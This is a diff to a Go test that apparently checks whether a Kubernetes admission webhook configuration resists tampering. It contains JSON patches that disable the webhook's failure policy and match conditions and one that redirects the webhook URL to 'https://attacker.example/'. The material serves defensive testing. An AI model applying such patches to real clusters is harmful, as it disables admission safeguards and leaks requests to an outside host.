@@ -352,11 +352,16 @@ func attackControllerRewritesConfig(t *testing.T) {
 	adm := as(t, controlSA, saGroups()...).AdmissionregistrationV1()
 	cfg, err := adm.ValidatingWebhookConfigurations().Get(ctx, controller.WebhookConfiguration, metav1.GetOptions{})
 	require.NoError(t, err)
-	wi := slices.IndexFunc(cfg.Webhooks, func(w admissionregistrationv1.ValidatingWebhook) bool { return w.Name == controller.PlacementWebhook })
+	wi := slices.IndexFunc(cfg.Webhooks, func(w admissionregistrationv1.ValidatingWebhook) bool {
+		return w.Name == controller.PlacementBindingsWebhook
+	})
 	require.GreaterOrEqual(t, wi, 0)
 	for _, p := range []string{
 		fmt.Sprintf(`[{"op":"replace","path":"/webhooks/%d/failurePolicy","value":"Ignore"}]`, wi),
 		fmt.Sprintf(`[{"op":"replace","path":"/webhooks/%d/matchConditions/0/expression","value":"false"}]`, wi),
+		fmt.Sprintf(`[{"op":"remove","path":"/webhooks/%d/matchConditions/0"}]`, wi),
+		fmt.Sprintf(`[{"op":"add","path":"/webhooks/%d/matchConditions/-","value":{"name":"binding-onto-an-exclusive-nodes","expression":"false"}}]`, wi),
+		`[{"op":"add","path":"/webhooks/0/matchConditions/-","value":{"name":"binding-onto-an-exclusive-node-2","expression":"false"}}]`,
 		fmt.Sprintf(`[{"op":"replace","path":"/webhooks/%d/clientConfig/url","value":"https://attacker.example/"}]`, wi),
 	} {
 		_, err := adm.ValidatingWebhookConfigurations().Patch(ctx, controller.WebhookConfiguration, types.JSONPatchType, []byte(p), metav1.PatchOptions{})
@@ -367,7 +372,11 @@ func attackControllerRewritesConfig(t *testing.T) {
 		return c.Name == controller.BindingTargetsCondition
 	})
 	require.GreaterOrEqual(t, ci, 0)
-	// "true" sends every binding: stricter, and the controller writes its list back.
+	// A further slice, then "true" for the first, which sends every binding: stricter,
+	// and the controller writes its conditions back.
+	_, err = adm.ValidatingWebhookConfigurations().Patch(ctx, controller.WebhookConfiguration, types.JSONPatchType,
+		fmt.Appendf(nil, `[{"op":"add","path":"/webhooks/%d/matchConditions/-","value":{"name":"binding-onto-an-exclusive-node-2","expression":"true"}}]`, wi), metav1.PatchOptions{})
+	require.NoError(t, err, "the controller adds a binding-targets condition")
 	_, err = adm.ValidatingWebhookConfigurations().Patch(ctx, controller.WebhookConfiguration, types.JSONPatchType,
 		fmt.Appendf(nil, `[{"op":"replace","path":"/webhooks/%d/matchConditions/%d/expression","value":"true"}]`, wi, ci), metav1.PatchOptions{})
 	require.NoError(t, err, "the controller writes the binding targets")
